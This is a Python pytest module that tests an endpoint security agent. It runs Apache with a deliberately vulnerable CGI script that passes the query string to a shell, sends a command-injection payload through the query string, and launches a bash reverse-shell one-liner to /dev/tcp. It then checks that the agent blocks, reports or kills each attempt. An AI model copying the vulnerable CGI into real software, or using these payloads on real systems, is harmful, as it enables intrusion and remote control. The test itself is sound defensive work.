"""A real Apache with a command-injection flaw, protected by a real endpoint agent, attacked over
the network from outside.

Apache (the Debian package; its own configuration under this test's run directory, nothing in
/etc/apache2 is touched) serves static files and CGI scripts in a network namespace of the test's
own; the client is this test, on the host side of a veth pair.  The exec gate must see /usr/bin/sh
without marking the host's root mount (other tests and processes share this machine), so the agent
and Apache share a private mount namespace in which /usr is a bind mount of itself — a mount of its
own, which the agent marks (``mounts: [/usr, <tmpfs>]``); the CGI scripts live on the tmpfs.
Nothing outside that namespace passes the gate.  Budget: about 20 s.
"""
from __future__ import annotations

import contextlib
import os
import shutil
import signal
import subprocess
import time
import urllib.request
from pathlib import Path

import pytest

from tests.support.endpoint_behaviour import Events, Listener, Netns
from tests.support.endpoint_stack import Teardown, endpoint_agent
from tests.support.fanotify import mount_tmpfs, remove_tmpfs
from vigil.control import call
from vigil.lab.services import Mosquitto, free_port

pytestmark = pytest.mark.lab

MODULES = Path("/usr/lib/apache2/modules")
PORT = 8080

VULN_CGI = """#!/usr/bin/python3
# A "network tool" with the classic flaw: the query string reaches a shell.
import os, urllib.parse
host = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", "")).get("host", [""])[0]
print("Content-Type: text/plain\\n", flush=True)
rc = os.system("echo looking up " + host)
print("rc=%d" % rc, flush=True)
"""
OK_PY = """#!/usr/bin/python3
import os
print("Content-Type: text/plain\\n")
print("ordinary python cgi", os.environ.get("REQUEST_METHOD"))
"""
OK_SH = """#!/bin/sh
echo "Content-Type: text/plain"
echo
echo "ordinary shell cgi $(date +%Y)"
"""


def apache_config(d: Path, www: Path, cgi: Path, listen: str) -> Path:
    for sub in ("logs", "run"):
        (d / sub).mkdir(parents=True, exist_ok=True)
    mods = ["mpm_prefork", "authz_core", "alias", "cgi", "dir", "mime"]
    conf = "\n".join([f"LoadModule {m}_module {MODULES}/mod_{m}.so" for m in mods] + [
        f"ServerRoot {d}", "ServerName endpoint-lab", f"Listen {listen}",
        f"PidFile {d}/run/apache.pid", f"DefaultRuntimeDir {d}/run", f"ErrorLog {d}/logs/error.log",
        "LogLevel warn", "User www-data", "Group www-data", "StartServers 2", "MinSpareServers 1",
        "MaxSpareServers 3", "TypesConfig /etc/mime.types", f"DocumentRoot {www}",
        f"<Directory {www}>\n  Require all granted\n</Directory>", "DirectoryIndex index.html",
        f"ScriptAlias /cgi-bin/ {cgi}/",
        f"<Directory {cgi}>\n  Options +ExecCGI\n  Require all granted\n</Directory>", ""])
    path = d / "apache2.conf"
    path.write_text(conf)
    return path


@pytest.fixture(scope="module")
def site():
    run, mnt = mount_tmpfs("bhlab", size="16m")
    down = Teardown()
    try:
        s = type("Site", (), {})()
        s.run, s.mnt = run, mnt
        www, cgi = mnt / "www", mnt / "cgi-bin"
        www.mkdir()
        cgi.mkdir()
        (www / "index.html").write_text("<html><body>static page</body></html>\n")
        for name, text in (("lookup.py", VULN_CGI), ("ok.py", OK_PY), ("ok.sh", OK_SH)):
            (cgi / name).write_text(text)
            (cgi / name).chmod(0o755)
        s.mosquitto = down.add(Mosquitto(run).start())
        s.events = down.add(Events(s.mosquitto.port))
        s.ns = down.add(Netns("vba"))
        s.conf = apache_config(run / "apache", www, cgi, f"{s.ns.ns_ip}:{PORT}")
        s.base = f"http://{s.ns.ns_ip}:{PORT}"
        yield s
    finally:
        try:
            down.close()
        finally:
            remove_tmpfs(run)


@contextlib.contextmanager
def protected_apache(site, mode: str, name: str):
    """An agent in a private mount namespace watching its own /usr bind mount, and Apache in that
    mount namespace and in the test's network namespace."""
    def own_mounts(agent) -> list[int]:
        """The ids, in the agent's mount namespace, of the two mounts it marks."""
        ids = []
        for line in Path(f"/proc/{agent.pid}/mountinfo").read_text().splitlines():
            f = line.split()
            if f[4] in ("/usr", str(site.mnt)):
                ids.append(int(f[0]))
        return ids

    wrap = ("unshare", "--mount", "--propagation", "private", "sh", "-c", 'mount --bind /usr /usr && exec "$@"', "sh")
    # no manager in this test: a verdict request times out quickly into the mode's default
    with endpoint_agent(site.run, name, site.mosquitto.mqtt_config(), ["/usr", site.mnt], mode, mark_ids=own_mounts,
                        argv_prefix=wrap, timeout=20, decision_deadline=0.05) as agent:
        apache = None
        try:
            apache = subprocess.Popen(["nsenter", f"--mount=/proc/{agent.pid}/ns/mnt",
                                       f"--net=/run/netns/{site.ns.name}",
                                       "/usr/sbin/apache2", "-f", str(site.conf), "-DFOREGROUND"],
                                      stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
            deadline = time.monotonic() + 20
            while True:
                try:
                    get(site, "/index.html", timeout=1)
                    break
                except OSError:
                    assert apache.poll() is None, apache.stderr.read().decode()
                    assert time.monotonic() < deadline, "Apache did not answer"
                    time.sleep(0.1)
            agent.apache = apache
            yield agent
        finally:
            if apache is not None and apache.poll() is None:
                apache.send_signal(signal.SIGTERM)
                try:
                    apache.wait(10)
                except subprocess.TimeoutExpired:
                    os.killpg(apache.pid, signal.SIGKILL)
                    apache.wait()


def get(site, path: str, timeout: float = 10) -> tuple[int, str]:
    with urllib.request.urlopen(site.base + path, timeout=timeout) as r:
        return r.status, r.read().decode()


@pytest.mark.skipif(not shutil.which("apache2") or not shutil.which("nsenter"), reason="apache2/nsenter not installed")
def test_injected_shell_is_denied_and_apache_keeps_serving(site):
    site.events.clear()
    with protected_apache(site, "block-malicious", "bhweb") as agent:
        # benign first: nothing may fire on static files and ordinary CGI scripts (python and sh)
        for _ in range(3):
            assert get(site, "/index.html") == (200, "<html><body>static page</body></html>\n")
            status, body = get(site, "/cgi-bin/ok.py")
            assert status == 200 and "ordinary python cgi GET" in body
            status, body = get(site, "/cgi-bin/ok.sh")
            assert status == 200 and "ordinary shell cgi 20" in body
        time.sleep(0.5)
        assert not site.events.collect(), "a rule fired on benign web traffic"
        # the attack: command injection through the query string
        status, body = get(site, "/cgi-bin/lookup.py?host=example.org%3Bid%3Becho%20pwned")
        assert "uid=" not in body and "pwned" not in body and "rc=0" not in body, body
        ev = site.events.wait(lambda e: e["rule"] == "service-spawns-shell")
        assert ev["action"] == "blocked" and ev["technique"] == "T1190" and ev["event"] == "gate"
        assert ev["path"] == os.path.realpath("/bin/sh")
        assert ev["service"]["exe"] == "/usr/sbin/apache2"
        exes = [n["exe"] for n in ev["tree"]]
        assert "/usr/sbin/apache2" in exes, exes       # the process tree leads to Apache
        # the CGI (its arguments are read after the answer, so a CGI that already ended has none left;
        # its name is in comm, read before the answer)
        assert any("lookup.py" in (n["cmdline"] or "") or n["comm"] == "lookup.py" for n in ev["tree"]), ev["tree"]
        apache_node = next(n for n in ev["tree"] if n["exe"] == "/usr/sbin/apache2")
        assert apache_node["user"] == "www-data" and len(apache_node["sha256"]) == 64
        # Apache keeps serving, and still runs ordinary CGI
        assert agent.apache.poll() is None
        assert get(site, "/index.html")[0] == 200
        assert "ordinary python cgi" in get(site, "/cgi-bin/ok.py")[1]
        counters = call(agent.sock, "endpoint.status", timeout=10)["decider"]["counters"]
        assert counters["behaviour_blocked"] == 1 and counters.get("behaviour_scripts_allowed", 0) >= 7


@pytest.mark.skipif(not shutil.which("apache2") or not shutil.which("nsenter"), reason="apache2/nsenter not installed")
def test_injected_shell_in_monitor_mode_runs_and_is_reported(site):
    site.events.clear()
    with protected_apache(site, "monitor", "bhwebmon"):
        status, body = get(site, "/cgi-bin/lookup.py?host=example.org%3Becho%20pwned")
        assert "pwned" in body and "rc=0" in body, body
        ev = site.events.wait(lambda e: e["rule"] == "service-spawns-shell")
        assert ev["action"] == "would-block" and ev["mode"] == "monitor"


@pytest.mark.skipif(not shutil.which("apache2") or not shutil.which("nsenter"), reason="apache2/nsenter not installed")
def test_reverse_shell_from_a_watched_mount_is_denied_before_it_runs(site):
    """bash sets up `>& /dev/tcp/...` before it execs `bash -i`: the gate sees a shell about to run
    with a TCP connection as its stdio, denies the exec, kills the process and shuts the
    connection down (the process connector would only have seen it after the exec)."""
    port = free_port()
    listener = Listener(site.ns, port)
    site.events.clear()
    try:
        with protected_apache(site, "block-malicious", "bhrsg") as agent:
            shell = subprocess.Popen(["nsenter", f"--mount=/proc/{agent.pid}/ns/mnt", "bash", "-c",
                                      f"bash -i >& /dev/tcp/{site.ns.ns_ip}/{port} 0>&1"],
                                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            try:
                listener.expect("accepted", 10)
                listener.expect("closed", 5)
                assert shell.wait(5) in (-signal.SIGKILL, 128 + signal.SIGKILL)
            finally:
                if shell.poll() is None:
                    shell.kill()
                    shell.wait()
            assert not any(line.startswith("data") for line in listener.out), listener.out   # never ran: no prompt
            ev = site.events.wait(lambda e: e["rule"] == "reverse-shell-exec")
            assert ev["event"] == "gate" and ev["action"] == "killed" and ev["closed"] >= 1
            assert ev["path"] == os.path.realpath("/bin/bash")
    finally:
        listener.close()
